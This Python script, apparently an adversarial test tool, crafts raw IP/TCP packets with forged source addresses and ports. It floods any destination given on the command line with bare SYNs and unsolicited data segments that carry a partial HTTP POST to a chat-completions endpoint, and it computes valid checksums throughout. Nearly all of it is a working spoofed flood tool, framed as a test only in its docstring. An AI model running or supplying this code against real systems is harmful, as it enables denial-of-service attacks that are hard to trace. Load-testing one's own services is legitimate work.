#!/usr/bin/env python3
"""Spoofed TCP segments for the adversarial test: COUNT data segments from random source
addresses and ports (never a handshake) carrying the start of a completion request, plus the
same number of SYNs, to DST:PORT through a raw socket. Standard library only.

    tcp_flood.py DST PORT COUNT
"""
import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(src: str, dst: str, sport: int, dport: int, seq: int, flags: int, payload: bytes) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 65535, 0, 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    csum = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    dst, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    payload = (b"POST /api/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
               b"Content-Length: 40\r\n\r\n{\"model\":\"flood-model\",\"stream\":false}")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(7)
    for i in range(count):
        src = f"10.{rng.randrange(64, 128)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        sport = rng.randrange(1024, 65536)
        seq = rng.getrandbits(32)
        flags = 0x18 if i % 2 == 0 else 0x02  # PSH|ACK with data, or a bare SYN
        s.sendto(segment(src, dst, sport, port, seq, flags, payload if flags == 0x18 else b""), (dst, 0))


if __name__ == "__main__":
    main()
